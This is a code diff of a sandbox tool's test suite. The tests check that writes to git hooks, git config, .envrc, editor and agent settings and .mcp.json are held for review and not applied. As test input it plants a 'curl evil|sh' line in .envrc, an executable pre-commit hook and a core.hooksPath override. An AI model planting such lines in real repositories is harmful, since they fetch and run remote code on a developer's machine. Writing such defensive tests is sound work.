@@ -63,28 +63,27 @@ def test_writes_outside_the_workspace_fail(box, profile):
 
 
 @pytest.mark.parametrize("profile", WRITABLE_WS)
-def test_protected_paths_stay_untouched(box, profile):
+def test_host_obeyed_files_are_held_not_applied(box, profile):
     config = (box.ws / ".git" / "config").read_text()
     hooks = sorted(os.listdir(box.ws / ".git" / "hooks"))
     r = box.run(profile, "-c",
                 "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
-                "echo '[core] hooksPath=/x' >> .git/config; rm -f .git/config; "
-                "mv .git .git-old; mv .git/hooks .git/h; "
+                "echo '[core] hooksPath=/x' >> .git/config; "
                 "echo 'curl evil|sh' > .envrc; mkdir -p .vscode .claude; "
-                "echo '{}' > .vscode/settings.json; echo '{}' > .mcp.json; exit 0")
+                "echo '{}' > .vscode/settings.json; echo '{}' > .mcp.json; "
+                "echo '{}' > .claude/settings.json; echo fine > notes.txt; exit 0")
     assert r.returncode == 0, r.stderr
     assert (box.ws / ".git" / "config").read_text() == config
     assert sorted(os.listdir(box.ws / ".git" / "hooks")) == hooks
-    assert not (box.ws / ".git-old").exists()
-    for created in (".envrc", ".vscode", ".claude", ".mcp.json"):
-        assert not (box.ws / created).exists(), created
-        assert f"protected path {box.ws / created}" in r.stderr
-    assert r.stderr.count("RF604") == 4
-    # quarantined, not lost; and no journal is left behind
-    quarantine = box.state / "quarantine"
-    found = [os.path.join(d, f) for d, _, fs in os.walk(quarantine) for f in fs]
-    assert any(p.endswith("/.envrc") for p in found)
-    assert box.journals() == []
+    for held in (".envrc", ".vscode/settings.json", ".claude/settings.json", ".mcp.json"):
+        assert not (box.ws / held).exists(), held
+        assert f"held for review: {held}" in r.stderr
+    assert "held for review: .git/hooks/pre-commit" in r.stderr
+    assert "held for review: .git/config (adds git config keys that can run programs: " \
+           "core.hookspath)" in r.stderr
+    # the rest of the run was applied; the held changes wait in one stage
+    assert (box.ws / "notes.txt").read_text() == "fine\n"
+    assert len(box.stages()) == 1
 
 
 @pytest.mark.parametrize("profile", SANDBOXED)
@@ -278,27 +277,28 @@ def test_sigkill_of_ringfence_leaves_no_process_and_no_files(box, profile):
     token = "987654.%d" % os.getpid()
     proc = subprocess.Popen(
         [*CLI, "run", "-p", profile, "-w", str(box.ws), "-c",
-         f"touch .envrc; echo started; s=987654; exec sleep $s.{os.getpid()}"],
+         f"touch .envrc notes; echo started; s=987654; exec sleep $s.{os.getpid()}"],
         cwd=box.ws, env=box.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
     assert proc.stdout.readline() == "started\n"
     wait_for(lambda: host_pids_with(token), "the sandboxed sleeper")
-    journals = box.journals()
-    assert len(journals) == 1
-    runtime_dir = json.loads((box.state / "journal" / journals[0]).read_text())["runtime_dir"]
+    stages = box.stages()
+    assert len(stages) == 1
+    meta = json.loads((box.state / "stage" / stages[0] / "meta.json").read_text())
+    runtime_dir = meta.get("runtime_dir")
     assert (runtime_dir is not None) == (profile == "build")
     proc.send_signal(signal.SIGKILL)
     proc.wait()
     # --die-with-parent + the pid namespace take every sandboxed process down
     wait_for(lambda: not host_pids_with(token), "the sandbox to die with ringfence")
-    # the next invocation processes the dead run's journal
-    assert (box.ws / ".envrc").exists()
+    # the writes were staged: nothing reached the workspace, not even a placeholder
+    assert not (box.ws / ".envrc").exists() and not (box.ws / "notes").exists()
     r = box.run("strict", "--", "true")
     assert r.returncode == 0, r.stderr
-    assert "RF615" in r.stderr and "RF604" in r.stderr
-    assert not (box.ws / ".envrc").exists()
-    assert box.journals() == []
+    assert "RF642" in r.stderr and stages[0] in r.stderr
     if runtime_dir:
         assert not os.path.exists(runtime_dir)
+    r = box.run("strict", "--", "true")
+    assert "RF642" not in r.stderr             # reported once
 
 
 @pytest.mark.parametrize("sig", (signal.SIGTERM, signal.SIGINT))
@@ -313,7 +313,7 @@ def test_signals_tear_the_sandbox_down(box, sig):
     proc.send_signal(sig)
     assert proc.wait(timeout=30) == 128 + sig
     wait_for(lambda: not host_pids_with(token), "the sandbox to be torn down")
-    assert box.journals() == []
+    assert box.stages() == []
 
 
 def test_timeout_kills_the_whole_sandbox(box):
@@ -332,18 +332,6 @@ def test_rlimits_apply_inside(box):
                 "head -c 2000000 /dev/zero > big; echo rc=$?; ulimit -f")
     assert (box.ws / "big").stat().st_size == 1024 * 1024
     assert r.stdout.split()[-1] == "1024"          # bash reports 1024-byte blocks
-
-
-def test_replaced_protected_symlink_is_moved_out(box):
-    # `rm` of a symlinked protected path, then a new file under the same name: the
-    # freed inode number is reused at once, so identity must be more than (dev, ino).
-    (box.ws / "real-envrc").write_text("x\n")
-    (box.ws / ".envrc").symlink_to("real-envrc")
-    r = box.run("build", "-c", "rm .envrc && echo 'curl evil | sh' > .envrc")
-    assert r.returncode == 0, r.stderr
-    assert "RF605" in r.stderr
-    assert not (box.ws / ".envrc").exists()
-    assert (box.ws / "real-envrc").read_text() == "x\n"
 
 
 def _host_reaches(host: str, port: int) -> bool:
